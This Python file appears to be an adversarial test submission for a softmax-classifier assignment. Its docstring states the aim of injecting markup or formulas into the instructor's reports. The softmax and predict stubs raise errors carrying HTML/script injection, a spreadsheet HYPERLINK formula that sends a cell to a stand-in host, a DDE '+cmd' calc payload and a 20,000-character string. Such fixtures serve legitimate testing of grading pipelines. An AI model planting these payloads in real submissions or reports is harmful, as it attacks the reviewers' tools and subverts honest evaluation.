"""Stubs whose messages carry HTML and script (<script>, <img onerror>, </pre>, -->), spreadsheet
formulas (=HYPERLINK(...), +cmd, @SUM) and a 20 000-character line, aimed at the class report and gradebook.
honest: 0
attack: inject markup or formulas into the instructor's reports
questions: ep01,ep03
"""

import numpy as np


def softmax(z):
    raise ValueError('</pre></td><script>document.title="RT-FORGED"</script><img src=x onerror=alert(1)>-->')


def log_softmax(z):
    raise NotImplementedError("not implemented yet")


def predict(W, b, X):
    raise ValueError('=HYPERLINK("http://example.invalid/?"&A1,"RT-FORGED") +cmd|"/c calc"!A0 @SUM(1) '
                     + "x" * 20000)


def cross_entropy(logits, y):
    raise NotImplementedError("not implemented yet")


def cross_entropy_grad(logits, y):
    raise NotImplementedError("not implemented yet")


def one_hot(y, n_classes):
    raise NotImplementedError("not implemented yet")


def init_params(n_features, n_classes, rng, scale=0.01):
    raise NotImplementedError("not implemented yet")


def l2_penalty(W, reg):
    raise NotImplementedError("not implemented yet")


def loss_and_grad(W, b, X, y, reg):
    raise NotImplementedError("not implemented yet")


def minibatches(n, batch_size, rng):
    raise NotImplementedError("not implemented yet")


def train(X, y, *, X_val=None, y_val=None, n_classes=None, epochs=10,
          batch_size=128, lr=0.1, reg=1e-4, seed=0):
    raise NotImplementedError("not implemented yet")
